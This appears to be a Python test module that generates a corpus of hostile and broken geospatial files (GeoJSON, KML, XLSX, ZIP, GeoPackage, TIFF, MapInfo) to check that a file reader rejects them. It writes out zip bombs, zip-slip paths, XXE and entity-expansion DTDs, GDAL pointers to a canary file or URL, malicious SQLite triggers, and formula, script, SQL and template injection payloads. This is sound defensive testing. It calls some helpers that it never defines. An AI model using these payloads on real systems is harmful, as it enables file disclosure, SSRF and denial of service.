"""Hostile and broken files, made by seed: bombs, links, disguises, damage; each with the code that it must get."""

import io
import json
import random
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import geopandas as gpd
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pyogrio
import rasterio
import xlsxwriter
from affine import Affine
from shapely import Point, box

SUFFIXES = (".csv", ".tsv", ".txt", ".xlsx", ".xls", ".fgb", ".geojson", ".json", ".gpkg", ".parquet", ".tif", ".kml",
            ".kmz", ".tab", ".mif", ".shp", ".zip")  # fmt: skip
ZIPPED = (".xlsx", ".kmz", ".zip")
PAYLOADS = (
    "=HYPERLINK(\"{url}\")", "=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "-1+1", "<script>fetch('{url}')</script>",
    "<img src={url} onerror=alert(1)>", "{{{{ 7*7 }}}}", "{{% import os %}}", "${{7*7}}", "{{0.__class__}}", "%s%n",
    "'; DROP TABLE dataset; --", "../../etc/passwd", "\u202egnp.exe", "\x1b[2J",
)  # fmt: skip


class Case(NamedTuple):
    """A file, the codes of which it must get one ("ok": it is read), and its class."""

    path: Path
    codes: frozenset[str]
    kind: str


class Planted(NamedTuple):
    """What must never be reached: an address that listens, and a file with a secret."""

    url: str
    canary: Path


class Corpus:
    """Writes files into a folder of their own and remembers what is expected of them."""

    def __init__(self, folder: Path, planted: Planted) -> None:
        self.folder, self.planted, self.cases = folder, planted, list[Case]()
        self.good = seeds(folder / "good")

    def add(self, kind: str, name: str, content: bytes | str, *codes: str, beside: dict[str, bytes] | None = None):
        """One file of that name in a folder of its own, with those that stand beside it."""
        place = self.folder / f"{len(self.cases):03d}"
        place.mkdir(parents=True)
        path = place / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        for suffix, data in (beside or {}).items():
            path.with_suffix(suffix).write_bytes(data)
        self.cases.append(Case(path, frozenset(codes), kind))


def corpus(folder: Path, planted: Planted) -> list[Case]:
    """All files."""
    made = Corpus(folder, planted)
    for part in (
        disguised,
        links,
        xml,
        jsons,
        zips,
        workbooks,
        rasters,
        databases,
        mapinfo,
        shapefiles,
        damaged,
        texts,
        disagreeing,
        slow,
    ):
        part(made)
    return made.cases


def seeds(folder: Path) -> dict[str, Path]:
    """A small sound file of every format, by suffix."""
    folder.mkdir(parents=True)
    frame = gpd.GeoDataFrame(
        {"ten": ["Hoằng Tiến", "Hoằng Phú", "Hoằng Phụ"], "so": [1, 2, 3]},
        geometry=[box(105 + n, 20, 105.1 + n, 20.1) for n in range(3)], crs=4326,
    )  # fmt: skip
    found = {}
    for suffix, driver in ((".gpkg", "GPKG"), (".geojson", "GeoJSON"), (".shp", "ESRI Shapefile"), (".kml", "LIBKML"),
                           (".tab", "MapInfo File"), (".mif", "MapInfo File"), (".fgb", "FlatGeobuf")):  # fmt: skip
        found[suffix] = folder / f"xa{suffix}"
        shapes = frame.assign(geometry=[Point(105, 20)] * 3) if driver == "MapInfo File" else frame
        pyogrio.write_dataframe(shapes, found[suffix], driver=driver)
    found[".parquet"] = folder / "xa.parquet"
    frame.to_parquet(found[".parquet"])
    found[".csv"] = folder / "xa.csv"
    frame.drop(columns="geometry").to_csv(found[".csv"], index=False)
    found[".xlsx"] = folder / "xa.xlsx"
    pd.DataFrame(frame.drop(columns="geometry")).to_excel(found[".xlsx"], index=False, engine="xlsxwriter")
    found[".zip"] = folder / "xa.zip"
    with zipfile.ZipFile(found[".zip"], "w", zipfile.ZIP_DEFLATED) as archive:
        for part in (".shp", ".shx", ".dbf", ".prj"):
            archive.write(folder / f"xa{part}", f"xa{part}")
    found[".kmz"] = folder / "xa.kmz"
    found[".kmz"].write_bytes(zipped({"doc.kml": found[".kml"].read_bytes()}))
    found[".tif"] = folder / "xa.tif"
    with rasterio.open(found[".tif"], "w", driver="GTiff", width=8, height=8, count=1, dtype="float32", crs="EPSG:5897",
                       transform=Affine(100, 0, 5e5, 0, -100, 2.2e6)) as file:  # fmt: skip
        file.write(np.arange(64, dtype="float32").reshape(1, 8, 8))
    return found


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of those members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def parts(path: Path) -> dict[str, bytes]:
    """The members of a ZIP."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pointers(planted: Planted) -> dict[str, str]:
    """Small documents by which GDAL would read another file or an address, whatever they are named."""
    url, canary = planted.url, planted.canary
    return {
        "vrt": f'<OGRVRTDataSource><OGRVRTLayer name="l"><SrcDataSource>{canary}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>',
        "vrt_url": f'<OGRVRTDataSource><OGRVRTLayer name="l"><SrcDataSource>/vsicurl/{url}/a.csv</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>',
        "raster_vrt": f'<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1" subClass="VRTRawRasterBand"><SourceFilename>{canary}</SourceFilename></VRTRasterBand></VRTDataset>',
        "wms": f'<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${{z}}</ServerUrl></Service></GDAL_WMS>',
        "wfs": f"<OGRWFSDataSource><URL>{url}</URL></OGRWFSDataSource>",
        "gdalg": json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {canary} ! write a"}),
    }  # fmt: skip


def disguised(made: Corpus) -> None:
    """VRT, WMS, WFS and GDALG under every other ending."""
    for name, content in pointers(made.planted).items():
        for suffix in SUFFIXES:
            code = "format_mismatch" if name == "gdalg" else "format_unknown"
            made.add("reach", f"{name}{suffix}", content, code)


def links(made: Corpus) -> None:
    """Links to a CRS, to styles and pictures, to other tables, to documents included."""
    url, canary = made.planted.url, made.planted.canary
    feature = {"type": "Feature", "properties": {"ten": "a"}, "geometry": {"type": "Point", "coordinates": [105, 20]}}
    for kind in ("proj4", "ogcwkt", "esriwkt"):
        for href in (url, f"{url}/crs.wkt", f"file://{canary}", str(canary)):
            crs = {"type": "link", "properties": {"href": href, "type": kind}}
            made.add(
                "reach",
                "crs.geojson",
                json.dumps({"type": "FeatureCollection", "crs": crs, "features": [feature]}),
                "link_forbidden",
            )
    for href in (url, f"file://{canary}", str(canary)):
        inner = {
            "network": f"<NetworkLink><Link><href>{href}</href></Link></NetworkLink>",
            "icon": f"<Style id='s'><IconStyle><Icon><href>{href}</href></Icon></IconStyle></Style>",
            "overlay": f"<GroundOverlay><Icon><href>{href}</href></Icon></GroundOverlay>",
            "style": f"<Placemark><styleUrl>{href}#s</styleUrl><Point><coordinates>105,20</coordinates></Point></Placemark>",
            "model": f"<Placemark><Model><Link><href>{href}</href></Link></Model></Placemark>",
        }
        for name, said in inner.items():
            made.add("reach", f"{name}.kml", kml(said + PLACEMARK), "ok", "format_not_sound", "sublayer_needed")
            made.add(
                "reach",
                f"{name}.kmz",
                zipped({"doc.kml": kml(said + PLACEMARK).encode()}),
                "ok",
                "format_not_sound",
                "sublayer_needed",
            )
        include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{href}" parse="text"/>'
        made.add("reach", "include.kml", kml(f"<Placemark><name>{include}</name></Placemark>"), "link_forbidden")


PLACEMARK = "<Placemark><name>a</name><Point><coordinates>105,20</coordinates></Point></Placemark>"


def kml(inner: str, head: str = "") -> str:
    """A KML document."""
    return f'<?xml version="1.0" encoding="UTF-8"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inner}</Document></kml>'


def xml(made: Corpus) -> None:
    """DTD, entities, nesting, endless text."""
    url, canary = made.planted.url, made.planted.canary
    heads = [
        f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{canary}">]>', f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{url}">]>',
        f'<!DOCTYPE kml SYSTEM "{url}/a.dtd">', f'<!DOCTYPE kml [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>',
        f'<!DOCTYPE kml PUBLIC "-//a//b" "{url}">', '<!DOCTYPE kml [<!ENTITY x "y">]>', "<!DOCTYPE kml>",
        "<!DOCTYPE kml [" + '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>",
    ]  # fmt: skip
    for head in heads:
        body = kml("<Placemark><name>&x;</name></Placemark>", head)
        # the DTD stands before the root, so that the first bytes are of no KML
        made.add("reach", "entity.kml", body, "xml_forbidden", "format_unknown")
        made.add("reach", "entity.kmz", zipped({"doc.kml": body.encode()}), "xml_forbidden")
    utf16 = kml(PLACEMARK, heads[0]).replace("UTF-8", "UTF-16").encode("utf-16")
    made.add("reach", "wide.kmz", zipped({"doc.kml": utf16}), "xml_forbidden")
    made.add("bomb", "deep.kml", kml("<Folder>" * 100 + PLACEMARK + "</Folder>" * 100), "too_deep")
    made.add("bomb", "deeper.kml", kml("<Folder>" * 100_000), "too_deep")
    made.add(
        "bomb",
        "geometries.kml",
        kml("<Placemark>" + "<MultiGeometry>" * 64 + "</MultiGeometry>" * 64 + "</Placemark>"),
        "too_deep",
    )
    made.add("bomb", "long.kml", kml(f"<Placemark><name>{'a' * 70_000}</name></Placemark>"), "value_too_long")
    made.add("bomb", "attribute.kml", kml(f"<Placemark id='{'a' * 70_000}'/>"), "value_too_long")
    many = "".join(f"<Data name='c{n}'><value>1</value></Data>" for n in range(300))
    made.add(
        "bomb", "columns.kml", kml(f"<Placemark><ExtendedData>{many}</ExtendedData></Placemark>"), "too_many_columns"
    )
    made.add(
        "bomb",
        "bomb.kmz",
        zipped({"doc.kml": kml("<name>" + " " * 60_000_000 + "</name>").encode()}),
        "unpacks_too_large",
    )
    for name, text in (("open", kml("<a>")), ("two", kml("") + "<kml/>"), ("null", kml("\0")), ("latin", kml("é"))):
        content = text.encode("latin-1") if name == "latin" else text.encode()
        made.add("broken", f"{name}.kml", content, "format_not_sound")
    made.add("broken", "encoding.kml", kml(PLACEMARK).replace("UTF-8", "EBCDIC-X"), "format_not_sound")
    made.add("broken", "empty.kml", kml(""), "ok", "format_not_sound", "file_empty", "sublayer_needed")


def jsons(made: Corpus) -> None:
    """Nesting, other dialects, odd numbers."""

    def put(name: str, geometry: object, *codes: str, kind: str = "bomb") -> None:
        said = geometry if isinstance(geometry, str) else json.dumps(geometry)
        text = (
            '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ten":"a"},"geometry":'
            + said
            + "}]}"
        )
        made.add(kind, f"{name}.geojson", text, *codes)

    for depth in (64, 1000, 300_000):
        put(f"nested{depth}", "[" * depth + "]" * depth, "too_deep")
        put(f"open{depth}", '{"a":' * depth, "too_deep")
        put(
            f"gc{depth}", '{"type":"GeometryCollection","geometries":[' * (depth // 2) + "]}" * (depth // 2), "too_deep"
        )
    put("vertices", {"type": "LineString", "coordinates": [[105, 20 + n * 1e-6] for n in range(1_000_000)]}, "ok")
    put(
        "vertices5",
        '{"type":"LineString","coordinates":[' + ",".join(["[1,2]"] * 5_000_001) + "]}",
        "too_many_vertices",
    )
    for number in (
        "NaN",
        "Infinity",
        "-Infinity",
        "1e999",
        "-1e999",
        "1e308",
        '"105"',
        "null",
        "true",
        "[]",
        "{}",
        "9" * 400,
    ):
        put("number", f'{{"type":"Point","coordinates":[{number},20]}}', "ok", "format_not_sound", kind="broken")
    for name, content in {
        "topology": {"type": "Topology", "objects": {}, "arcs": []},
        "esri": {"geometryType": "esriGeometryPoint", "spatialReference": {"wkid": 4326}, "features": []},
    }.items():
        made.add("broken", f"{name}.json", json.dumps(content), "format_mismatch")
    for name, text in {
        "null": "{}", "array": "[1,2,3]", "type": '{"type":1}', "features": '{"type":"FeatureCollection","features":7}',
        "twice": '{"type":"FeatureCollection","features":[]}{}', "cut": '{"type":"FeatureCollection","features":[',
        "commas": '{"type":"FeatureCollection","features":[,]}', "hex": '{"type":"FeatureCollection","features":[0x1]}',
    }.items():  # fmt: skip
        made.add("broken", f"{name}.geojson", text, "format_not_sound", "format_mismatch")
    made.add(
        "broken",
        "half.geojson",
        '{"type":"FeatureCollection","features":[{"type":"Feature","geometry":null,"properties":{"a":"\\ud800"}}]}',
        "ok",
        "format_not_sound",
    )
    wide = {f"c{n}": 1 for n in range(300)}
    made.add(
        "bomb",
        "columns.geojson",
        json.dumps(
            {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": None, "properties": wide}]}
        ),
        "too_many_columns",
    )
    long = {"ten": "a" * 70_000}
    made.add(
        "bomb",
        "value.geojson",
        json.dumps(
            {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": None, "properties": long}]}
        ),
        "value_too_long",
    )
    many = '{"type":"FeatureCollection","features":[' + ",".join(["0"] * 2_000_001) + "]}"
    made.add("bomb", "features.geojson", many, "too_many_features")


def zips(made: Corpus) -> None:
    """Bombs, names that lead out, links, overlap, nesting, passwords."""
    good = parts(made.good[".zip"])
    zeros = bytes(60_000_000)
    for suffix in ZIPPED:
        made.add("bomb", f"bomb{suffix}", zipped({"a.shp": zeros, "xl/a.xml": b""}), "unpacks_too_large")
        made.add("bomb", f"many{suffix}", zipped({f"{n}.txt": b"" for n in range(201)}), "too_many_members")
        made.add("bomb", f"nested{suffix}", zipped({**good, "in.zip": zipped(good)}), "archive_nested")
        made.add("bomb", f"hidden{suffix}", zipped({**good, "in.dat": zipped(good)}), "archive_nested")
        made.add(
            "bomb", f"gzip{suffix}", zipped({**good, "in.gz": b"\x1f\x8b\x08" + zlib.compress(b"a")}), "archive_nested"
        )
        for name in (
            "../a.shp",
            "/etc/passwd",
            "a/../../b.shp",
            "C:\\a.shp",
            "..\\a.shp",
            "a\x01.shp",
            str(made.planted.canary),
        ):
            made.add("reach", f"slip{suffix}", zipped({**good, name: b"x"}), "member_unsafe")
        made.add("reach", f"symlink{suffix}", with_symlink(good, made.planted.canary), "member_unsafe")
        made.add("reach", f"case{suffix}", zipped({**good, "XA.SHP": b"x"}), "member_unsafe")
        made.add("bomb", f"overlap{suffix}", overlapping(), "archive_overlap", "format_not_sound")
        made.add("broken", f"password{suffix}", flagged(good, 1), "archive_encrypted")
        made.add("broken", f"method{suffix}", zipped(good, zipfile.ZIP_LZMA), "format_not_sound")
        made.add("bomb", f"says_less{suffix}", lying(good), "unpacks_too_large", "format_not_sound")
        made.add("broken", f"nothing{suffix}", zipped({}), "format_mismatch", "format_unknown", "format_not_sound")
        made.add("broken", f"unrelated{suffix}", zipped({"a.txt": b"a"}), "format_mismatch")
    made.add("reach", "vrt_member.zip", zipped({"a.shp": pointers(made.planted)["vrt"].encode()}), "format_mismatch")
    made.add("reach", "vrt_member.kmz", zipped({"doc.kml": pointers(made.planted)["vrt"].encode()}), "format_mismatch")
    made.add(
        "broken",
        "two.zip",
        zipped({**good, **{n.replace("xa", "thon"): c for n, c in good.items()}}),
        "sublayer_needed",
    )
    made.add(
        "broken",
        "no_dbf.zip",
        zipped({n: c for n, c in good.items() if not n.endswith(".dbf")}),
        "ok",
        "sidecar_wrong",
        "format_not_sound",
    )


def with_symlink(good: dict[str, bytes], target: Path) -> bytes:
    """A ZIP whose .dbf is a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in good.items():
            entry = zipfile.ZipInfo(name)
            entry.create_system = 3
            entry.external_attr = (0o120777 if name.endswith(".dbf") else 0o100644) << 16
            archive.writestr(entry, str(target) if name.endswith(".dbf") else content)
    return out.getvalue()


def flagged(good: dict[str, bytes], flag: int) -> bytes:
    """A ZIP whose entries carry that flag."""
    content = bytearray(zipped(good))
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= flag
        at = content.find(b"PK\x01\x02", at + 4)
    return bytes(content)


def lying(good: dict[str, bytes]) -> bytes:
    """A ZIP that says its first member is small."""
    content = bytearray(zipped({"a.bin": bytes(1_000_000), **good}))
    at = content.find(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def overlapping() -> bytes:
    """A ZIP all of whose entries share one content (David Fifield's bomb)."""
    content = bytearray(zipped({f"{n}.shp": bytes(10_000) for n in range(20)}))
    at, places = content.find(b"PK\x01\x02"), []
    while at >= 0:
        places.append(at)
        at = content.find(b"PK\x01\x02", at + 4)
    for place in places:
        content[place + 42 : place + 46] = struct.pack("<I", 0)
    return bytes(content)


def workbooks(made: Corpus) -> None:
    """XLSX with DTD, far cells, formulas, external links, other content."""
    good = parts(made.good[".xlsx"])
    sheet = good["xl/worksheets/sheet1.xml"]
    dtd = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{made.planted.canary}">]>'.encode()
    for part in (
        "xl/workbook.xml",
        "xl/worksheets/sheet1.xml",
        "xl/sharedStrings.xml",
        "[Content_Types].xml",
        "xl/styles.xml",
    ):
        content = good[part].replace(b"?>", b"?>" + dtd, 1)
        made.add("reach", "dtd.xlsx", zipped({**good, part: content}), "xml_forbidden")
    made.add(
        "reach",
        "wide.xlsx",
        zipped({**good, "xl/workbook.xml": good["xl/workbook.xml"].decode().encode("utf-16")}),
        "format_not_sound",
    )
    for cell, code in (
        ("XFD1", "too_many_columns"),
        ("A1048576", "too_many_rows"),
        ("IW5", "too_many_columns"),
        ("IV100000", "too_many_rows"),
    ):
        row = f'<row r="{cell.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{cell}"><v>1</v></c></row></sheetData>'.encode()
        made.add(
            "bomb", "far.xlsx", zipped({**good, "xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", row)}), code
        )
    made.add(
        "bomb",
        "rows.xlsx",
        zipped(
            {
                **good,
                "xl/worksheets/sheet1.xml": sheet.replace(
                    b"</sheetData>", b'<row><c t="n"><v>1</v></c></row>' * 200_000 + b"</sheetData>"
                ),
            }
        ),
        "too_many_rows",
    )
    made.add(
        "bomb",
        "strings.xlsx",
        zipped({**good, "xl/sharedStrings.xml": b"<sst>" + b"<si><t>a</t></si>" * 4_000_000 + b"</sst>"}),
        "unpacks_too_large",
    )
    made.add(
        "reach",
        "external.xlsx",
        zipped(
            {
                **good,
                "xl/externalLinks/externalLink1.xml": f'<externalLink><x href="{made.planted.url}"/></externalLink>'.encode(),
            }
        ),
        "ok",
    )
    made.add(
        "broken", "word.xlsx", zipped({"[Content_Types].xml": b"<a/>", "word/document.xml": b"<a/>"}), "format_mismatch"
    )
    for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"):
        made.add(
            "broken",
            "cut.xlsx",
            zipped({**good, part: good[part][: len(good[part]) // 2]}),
            "format_not_sound",
            "worker_died",
            "ok",
        )
        made.add(
            "broken",
            "gone.xlsx",
            zipped({n: c for n, c in good.items() if n != part}),
            "format_not_sound",
            "format_mismatch",
            "worker_died",
            "ok",
        )
    made.add("broken", "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "format_not_sound")
    made.add(
        "broken",
        "secret.xls",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(600),
        "archive_encrypted",
    )
    made.add("broken", "encrypted.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "format_mismatch")


def rasters(made: Corpus) -> None:
    """PNG by the name of TIFF, huge sizes, circles, blocks outside the file."""
    good = made.good[".tif"].read_bytes()
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBB", 13, b"IHDR", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0)
    made.add("bomb", "picture.tif", png, "format_unknown")
    made.add("bomb", "picture.csv", png, "format_unknown")
    made.add("bomb", "zlib.tif", png + zlib.compress(bytes(10_000_000)), "format_unknown")
    for width, height in ((2**31 - 1, 2**31 - 1), (10**6, 10**6), (100_001, 1001)):
        made.add(
            "bomb", "huge.tif", tiff({256: width, 257: height, 258: 8, 259: 8, 273: 8, 279: 8}), "raster_too_large"
        )
    made.add(
        "bomb",
        "tile.tif",
        tiff({256: 10, 257: 10, 258: 8, 259: 8, 322: 2**20, 323: 2**20, 324: 8, 325: 8}),
        "format_not_sound",
    )
    made.add(
        "broken", "outside.tif", tiff({256: 10, 257: 10, 258: 8, 259: 1, 273: 10**9, 279: 100}), "format_not_sound"
    )
    made.add("broken", "packing.tif", tiff({256: 10, 257: 10, 258: 8, 259: 999, 273: 8, 279: 100}), "format_not_sound")
    made.add("broken", "sizes.tif", tiff({256: 0, 257: 10, 258: 8, 259: 1, 273: 8, 279: 1}), "format_not_sound")
    made.add(
        "broken", "circle.tif", tiff({256: 1, 257: 1, 258: 8, 259: 1, 273: 8, 279: 1}, after=8), "format_not_sound"
    )
    made.add("broken", "nowhere.tif", b"II*\0" + struct.pack("<I", 10**9), "format_not_sound")
    made.add("broken", "none.tif", b"II*\0\0\0\0\0", "format_not_sound")
    made.add("broken", "tags.tif", b"II*\0\x08\0\0\0\xff\xff" + bytes(100), "format_not_sound")
    made.add("broken", "big.tif", b"II+\0\x08\0\0\0" + struct.pack("<Q", 2**63), "format_not_sound")
    made.add("broken", "layer.tif", good, "format_mismatch")


def tiff(tags: dict[int, int], after: int = 0) -> bytes:
    """A TIFF of one directory with those tags."""
    entries = b"".join(struct.pack("<HHII", number, 4, 1, value) for number, value in sorted(tags.items()))
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", after) + bytes(64)


def databases(made: Corpus) -> None:
    """GeoPackages with views, triggers, virtual tables, odd ids, damage."""
    for name, sql in {
        "view": "CREATE VIEW v AS WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT n FROM t",
        "plain_view": "CREATE VIEW v AS SELECT * FROM xa",
        "trigger": "CREATE TRIGGER evil AFTER INSERT ON xa BEGIN SELECT load_extension('x'); END",
        "named_trigger": "CREATE TRIGGER rtree_evil AFTER INSERT ON xa BEGIN SELECT writefile('x', 'y'); END",
        "fts": "CREATE VIRTUAL TABLE f USING fts4(a)",
        "rtree": "CREATE VIRTUAL TABLE other USING rtree(id, a, b)",
        "index": "CREATE INDEX i ON xa(so) WHERE zeroblob(10) IS NOT NULL",
    }.items():
        made.add("reach", f"{name}.gpkg", changed(made.good[".gpkg"], made.folder, sql), "geopackage_forbidden")
    virtual = changed(made.good[".gpkg"], made.folder, "PRAGMA writable_schema=ON", "INSERT INTO sqlite_master VALUES"
                      f"('table','v','v',0,'CREATE VIRTUAL TABLE v USING VirtualOGR(''{made.planted.canary}'')')")  # fmt: skip
    made.add("reach", "virtual.gpkg", virtual, "geopackage_forbidden")
    made.add(
        "broken",
        "no_contents.gpkg",
        changed(made.good[".gpkg"], made.folder, "DROP TABLE gpkg_contents"),
        "format_not_sound",
    )
    wide = "CREATE TABLE w (" + ",".join(f"c{n} TEXT" for n in range(400)) + ")"
    into = "INSERT INTO gpkg_contents(table_name, data_type, identifier) VALUES ('w','attributes','w')"
    made.add("bomb", "columns.gpkg", changed(made.good[".gpkg"], made.folder, wide, into), "too_many_columns")
    content = made.good[".gpkg"].read_bytes()
    made.add("broken", "sqlite.gpkg", content[:68] + bytes(4) + content[72:], "format_mismatch")
    made.add("broken", "half.gpkg", content[: len(content) // 2], "format_not_sound")
    made.add("broken", "page.gpkg", content[:100] + bytes(4000) + content[4100:], "format_not_sound")


def changed(good: Path, folder: Path, *statements: str) -> bytes:
    """The GeoPackage after those statements."""
    copy = folder / "changed.gpkg"
    copy.write_bytes(good.read_bytes())
    with sqlite3.connect(copy) as database:
        for one in statements:
            database.execute(one)
    database.close()
    content = copy.read_bytes()
    copy.unlink()
    return content


def mapinfo(made: Corpus) -> None:
    """TAB that shows other tables, MIF that announces too much."""
    good, canary = made.good[".tab"].read_text(encoding="latin-1"), made.planted.canary
    dat = {s: made.good[".tab"].with_suffix(s).read_bytes() for s in (".dat", ".map", ".id")}
    for name, text in {
        "raster": f'!table\n!version 300\n!charset Neutral\nDefinition Table\n  File "{canary}"\n  Type "RASTER"\n',
        "seamless": good + '\nbegin_metadata\n"\\IsSeamless" = "TRUE"\nend_metadata\n',
        "view": f'!table\n!version 100\nOpen Table "{canary}" Hide\nCreate View v As\nSelect a From b\n',
        "linked": '!table\n!version 300\nDefinition Table\n  Type LINKED Charset "Neutral"\n  Fields 1\n   a Char (1) ;\n',
        "odbc": '!table\n!version 300\nDefinition Table\n  Type ODBC\n',
        "file": good.replace("Definition Table", f'Definition Table\n  File "{canary}"'),
        "url": good.replace("Definition Table", f'Definition Table\n  File "{made.planted.url}"'),
        "up": good.replace("Definition Table", 'Definition Table\n  File "..\\other.dat"'),
    }.items():  # fmt: skip
        made.add("reach", f"{name}.tab", text, "link_forbidden", beside=dat)
    made.add("broken", "alone.tab", good, "sidecar_wrong")
    made.add("broken", "short.tab", good, "sidecar_wrong", beside={**dat, ".dat": dat[".dat"][:50]})
    made.add(
        "broken", "garbage.tab", good, "format_not_sound", "ok", "worker_died", beside={**dat, ".map": b"\xff" * 2000}
    )
    mif = made.good[".mif"].read_text(encoding="latin-1")
    mid = {".mid": made.good[".mif"].with_suffix(".mid").read_bytes()}
    made.add("broken", "alone.mif", mif, "sidecar_wrong")
    made.add("bomb", "pline.mif", mif + "\nPline 999999999\n0 0\n", "too_many_vertices", beside=mid)
    made.add("bomb", "region.mif", mif + "\nRegion 1\n 4000000000\n0 0\n", "too_many_vertices", beside=mid)
    made.add("bomb", "columns.mif", mif.replace("Columns 2", "Columns 9999"), "too_many_columns", beside=mid)
    made.add("broken", "no_data.mif", mif[: mif.lower().index("data")], "format_not_sound", beside=mid)


def shapefiles(made: Corpus) -> None:
    """Sidecars that are missing, of another layer, or lie."""
    good = {s: made.good[".shp"].with_suffix(s).read_bytes() for s in (".shp", ".shx", ".dbf", ".prj")}
    shp, rest = good[".shp"], {s: c for s, c in good.items() if s != ".shp"}
    for gone in (".shx", ".dbf"):
        made.add(
            "broken", f"no{gone[1:]}.shp", shp, "sidecar_wrong", beside={s: c for s, c in rest.items() if s != gone}
        )
    for suffix in (".shx", ".dbf"):
        made.add("broken", "cut.shp", shp, "sidecar_wrong", beside={**rest, suffix: rest[suffix][:-20]})
        made.add("broken", "empty_part.shp", shp, "sidecar_wrong", beside={**rest, suffix: b""})
        made.add("broken", "garbage_part.shp", shp, "sidecar_wrong", beside={**rest, suffix: b"\xff" * 300})
    rows = rest[".dbf"][:4] + struct.pack("<I", 2) + rest[".dbf"][8:]
    made.add("broken", "rows.shp", shp, "sidecar_wrong", beside={**rest, ".dbf": rows})
    made.add(
        "bomb",
        "many.shp",
        shp,
        "sidecar_wrong",
        beside={**rest, ".dbf": rest[".dbf"][:4] + b"\xff" * 4 + rest[".dbf"][8:]},
    )
    far = rest[".shx"][:100] + b"\x7f" * 24
    made.add("broken", "far.shp", shp, "sidecar_wrong", beside={**rest, ".shx": far})
    made.add("broken", "length.shp", shp[:24] + b"\x7f\xff\xff\xff" + shp[28:], "format_not_sound", beside=rest)
    made.add("broken", "kind.shp", shp[:32] + b"\x63" + shp[33:], "format_not_sound", beside=rest)
    bad = shp[: 108 + 36] + b"\xff\xff\xff\x7f" * 2 + shp[108 + 44 :]  # parts and points of the first polygon
    made.add("bomb", "points.shp", bad, "format_not_sound", "ok", beside=rest)
    made.add("reach", "prj.shp", shp, "ok", "format_not_sound", beside={**rest, ".prj": made.planted.url.encode()})


def damaged(made: Corpus) -> None:
    """Empty, cut, zeroed and random content of every format, and every format under another's ending."""
    chance = random.Random(4)  # noqa: S311  reproducible, no secret
    for suffix, path in made.good.items():
        content = path.read_bytes()
        others = (
            {p.suffix: p.read_bytes() for p in path.parent.glob(f"{path.stem}.*")}
            if suffix in (".shp", ".tab", ".mif")
            else {}
        )
        beside = {s: c for s, c in others.items() if s in (".shx", ".dbf", ".prj", ".dat", ".map", ".id", ".mid")}
        read = {"ok"} if suffix in (".csv", ".tab", ".mif", ".kml") else set()
        refused = ("format_not_sound", "format_unknown", "format_mismatch", "sidecar_wrong", *read)
        made.add("broken", f"empty{suffix}", b"", "file_empty", beside=beside)
        made.add(
            "broken",
            f"one{suffix}",
            content[:1],
            *refused,
            "ok" if suffix == ".csv" else "format_unknown",
            beside=beside,
        )
        made.add("broken", f"start{suffix}", content[:40], *refused, beside=beside)
        made.add("broken", f"half{suffix}", content[: len(content) // 2], *refused, beside=beside)
        made.add(
            "broken",
            f"zeros{suffix}",
            bytes(2000),
            "not_text",
            "format_unknown",
            "format_not_sound",
            "format_mismatch",
            beside=beside,
        )
        made.add(
            "broken",
            f"noise{suffix}",
            b"\xfe\x00" + chance.randbytes(3000),
            "format_unknown",
            "format_not_sound",
            "format_mismatch",
            beside=beside,
        )
        for other in (".csv", ".gpkg", ".kml", ".xlsx", ".tif"):
            if other != suffix and not (suffix in ZIPPED and other == ".xlsx"):
                codes = ("format_mismatch", "not_text", "format_not_sound") if other == ".csv" else ("format_mismatch",)
                made.add("broken", f"is{suffix[1:]}{other}", content, *codes)


def texts(made: Corpus) -> None:
    """Formulas, scripts and templates as values and as names; tables that are too wide, long or not text."""
    for payload in PAYLOADS:
        said = payload.format(url=made.planted.url)
        made.add("words", "said.csv", f'ten,so\n"{said.replace(chr(34), chr(34) * 2)}",1\n', "ok")
        feature = {
            "type": "Feature",
            "properties": {said: said},
            "geometry": {"type": "Point", "coordinates": [105, 20]},
        }
        made.add("words", "said.geojson", json.dumps({"type": "FeatureCollection", "features": [feature]}), "ok")
        made.add("words", "said.xlsx", workbook(said), "ok")
    made.add("bomb", "columns.csv", ",".join("a" * 600) + "\n", "too_many_columns")
